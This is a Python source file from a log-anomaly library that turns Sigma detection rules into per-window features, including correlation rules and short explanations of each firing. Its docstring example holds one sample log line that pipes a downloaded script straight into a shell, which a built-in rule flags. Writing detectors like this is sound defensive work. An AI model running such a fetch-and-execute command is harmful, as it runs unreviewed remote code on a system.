"""Sigma rules, detections and correlations, over the events of any log."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar, Self

import numpy as np
import numpy.typing as npt
import polars as pl

from oddline.core.errors import ConfigError
from oddline.core.nouns import FeatureMatrix, Reason, Windows
from oddline.features import _sigma_correlation, _sigma_files
from oddline.features._fired import fired_matrix
from oddline.features._sigma_condition import Conditions
from oddline.features._sigma_fields import AnyField, Fields
from oddline.features._vocabulary import distinct_names
from oddline.features.base import Feature

__all__ = ["Sigma"]

Ints = npt.NDArray[np.int64]

AT_ONCE = 64
"""Rules that are looked at in one pass; bounds the memory, not the answer."""

SHOWN = 80
"""Characters that a reason shows of what a rule has found."""

AROUND = 10
"""Characters of them before the first word that was looked for."""


@dataclass(frozen=True)
class _Found:
    """The rows at which a rule fires, and for correlations how much was counted there."""

    rows: Ints
    count: Ints | None = None


class Sigma(Feature):
    """One column a Sigma rule: what its level is worth where it fires, and 0 elsewhere.

    pySigma reads the rules (https://sigmahq.io); conditions become expressions over the Records, correlations are told
    at the event that completes them. Rules that a correlation refers to have a column only if it says
    ``generate: true``, and rules of the level informational have none. Rules without a level count as medium.

    Parameters
    ----------
    files
        Files and folders of rules. None reads ``oddline.sigma.yml`` and the folder ``oddline.sigma`` in the working
        folder, if they are there.
    built_in
        Whether the few rules that come with Oddline are among them.
    fields
        What fields are called here that the rules call otherwise, as ``{"TargetUserName": "x_user"}``.
    logsource
        If given, only rules whose product, category or service is one of these.

    Examples
    --------
    >>> from oddline.windows.line import Line
    >>> logs = pl.DataFrame({"id": [1, 2], "ts": [None, None], "message": ["ok", "curl http://a/b | sh"]})
    >>> logs = logs.with_columns(pl.col("id").cast(pl.UInt64), pl.col("ts").cast(pl.Datetime("us", "UTC")))
    >>> feature = Sigma(files=())
    >>> matrix = feature.fit_transform(logs, Line().assign(logs))
    >>> [name for name, value in zip(matrix.names, matrix.take(np.array([1]))[0]) if value]
    ['Script fetched and run at once']
    """

    needs: ClassVar[str] = "sigma"

    _collection: Any = None

    def __init__(
        self,
        files: tuple[str, ...] | None = None,
        built_in: bool = True,
        fields: dict[str, str] | None = None,
        logsource: tuple[str, ...] = (),
    ) -> None:
        self.files = files
        self.built_in = built_in
        self.fields = fields
        self.logsource = logsource

    def fit(self, records: pl.DataFrame, windows: Windows) -> Self:
        """Read the rules and refuse those that cannot be held against Records; nothing is learnt from the events.

        Raises
        ------
        ConfigError
            Names the file, the rule and what it asks for.
        """
        del records, windows
        paths = _sigma_files.usual() if self.files is None else map(Path, self.files)
        self.documents_ = [*(_sigma_files.built_in() if self.built_in else []), *_sigma_files.documents(paths)]
        self._collection = None
        rules = self._parsed().rules
        for rule in rules:
            if _correlates(rule):
                _sigma_correlation.check(rule, _where(rule))
            else:
                _expression(rule, AnyField())
        told = self._columns()
        if not told:
            raise ConfigError(
                "no Sigma rules", expected="at least one that is not informational, for these log sources"
            )
        self.names_ = list(distinct_names([_sigma_files.title(rule) for rule in told]))
        self.severities_ = [_level(rule) for rule in told]
        return self

    def _parsed(self) -> Any:
        """Give the rules; a model carries them as they were written."""
        self.require_fitted()
        if self._collection is None:
            self._collection = _sigma_files.parse(self.documents_)
        return self._collection

    def _columns(self) -> list[Any]:
        """Give the rules that have a column."""
        told = self._parsed().get_output_rules()
        return [rule for rule in told if _level(rule) != "informational" and self._wanted(rule)]

    def _wanted(self, rule: Any) -> bool:
        if not self.logsource:
            return True
        if _correlates(rule):
            return any(self._wanted(one.rule) for one in rule.referenced_rules)
        source = rule.logsource
        return bool({source.product, source.category, source.service} & set(self.logsource))

    def transform(self, records: pl.DataFrame, windows: Windows) -> FeatureMatrix:
        """Tell which rules fire in each window."""
        self._fields = Fields(records.schema, self.fields)
        found = self._find(self._parsed().rules, records)
        told = [(rule, found[id(rule)]) for rule in self._columns()]
        event = np.concatenate([one.rows for _, one in told])
        column = np.repeat(np.arange(len(told)), [len(one.rows) for _, one in told])
        window = windows.members[event].astype(np.int64)
        self._told = told, window, column
        return fired_matrix(window, column, len(windows), self.names_, self.severities_)

    def _find(self, rules: list[Any], records: pl.DataFrame) -> dict[int, _Found]:
        simple = [rule for rule in rules if not _correlates(rule)]
        found = {}
        for start in range(0, len(simple), AT_ONCE):
            some = simple[start : start + AT_ONCE]
            looks = [_expression(rule, self._fields).alias(str(place)) for place, rule in enumerate(some)]
            table = records.lazy().select(pl.int_range(pl.len()).alias("row"), *looks).collect()
            for place, rule in enumerate(some):
                found[id(rule)] = _Found(np.flatnonzero(table[str(place)].to_numpy()).astype(np.int64))
        for rule in rules:  # those that are referred to come first
            if _correlates(rule):
                parts = [found[id(one.rule)].rows for one in rule.referenced_rules]
                found[id(rule)] = _Found(*_sigma_correlation.correlate(rule, parts, records, self._fields))
        return found

    def describe(self, records: pl.DataFrame, row: int, column: int) -> Reason:
        """Say a rule's title, and show the fields that it looked at or what it counted."""
        told, window, columns = self._told
        rule, found = told[column]
        places = np.flatnonzero(window[columns == column] == row)
        seen, expected = "does not fire here", ""
        if len(places) and found.count is not None:
            seen, expected = _counted(rule, int(found.count[places].max()))
        elif len(places):
            seen = _shown(records, int(found.rows[places[0]]), rule, self._fields)
        return Reason(self.names_[column], seen, expected, 0.0, str(rule.name or self.names_[column]))


def _correlates(rule: Any) -> bool:
    return hasattr(rule, "timespan")


def _where(rule: Any) -> str:
    return f"the Sigma rule {_sigma_files.title(rule)!r}"


def _level(rule: Any) -> str:
    return rule.level.name.lower() if rule.level else "medium"


def _expression(rule: Any, fields: Fields) -> pl.Expr:
    """Give the expression that is true at the events that a rule is about."""
    conditions = Conditions(fields, _where(rule))
    try:
        parsed = [one.parsed for one in rule.detection.parsed_condition]
        return pl.any_horizontal([conditions.expression(one) for one in parsed])
    except ConfigError:
        raise
    except (ValueError, TypeError, AttributeError, RecursionError) as error:  # pySigma reads conditions only now
        raise ConfigError(f"{_where(rule)} has a condition that cannot be read ({error})") from error


def _leaves(node: Any) -> Iterable[Any]:
    """Give the comparisons that a condition is made of."""
    if hasattr(node, "args"):
        for one in node.args:
            yield from _leaves(one)
    else:
        yield node


def _shown(records: pl.DataFrame, row: int, rule: Any, fields: Fields) -> str:
    """Give the fields that a rule has looked at; if it looks for words, the event around the first of them."""
    leaves = [leaf for one in rule.detection.parsed_condition for leaf in _leaves(one.parsed)]
    names = dict.fromkeys(leaf.field for leaf in leaves if hasattr(leaf, "field"))
    cells = {name: column for name in names if (column := fields.find(name)) and records[column][row] is not None}
    if cells:
        words = ", ".join(f"{name}={records[column][row]}" for name, column in cells.items())
    else:
        event = str(records["raw" if "raw" in records.columns else "message"][row] or "")
        texts = [part.lower() for leaf in leaves for part in getattr(leaf.value, "s", ()) if isinstance(part, str)]
        words = event[
            max(0, min((at for text in texts if (at := event.lower().find(text)) >= 0), default=0) - AROUND) :
        ]
    return words if len(words) <= SHOWN else words[:SHOWN] + "…"


def _counted(rule: Any, count: int) -> tuple[str, str]:
    """Say how much a correlation has counted, and what would not have fired it."""
    condition, span = rule.condition, rule.timespan.spec
    what = {"EVENT_COUNT": "events", "VALUE_COUNT": "values"}.get(rule.type.name)
    if what is None:
        order = "one after the other " if rule.type.name == "TEMPORAL_ORDERED" else ""
        return f"{count} of its rules fire {order}within {span}", ""
    if rule.type.name == "VALUE_COUNT":
        what = f"values of {condition.fieldref}"
    least = condition.count + (condition.op.name == "GT")
    return f"{count:,} {what} within {span}", f"fewer than {least:,}"
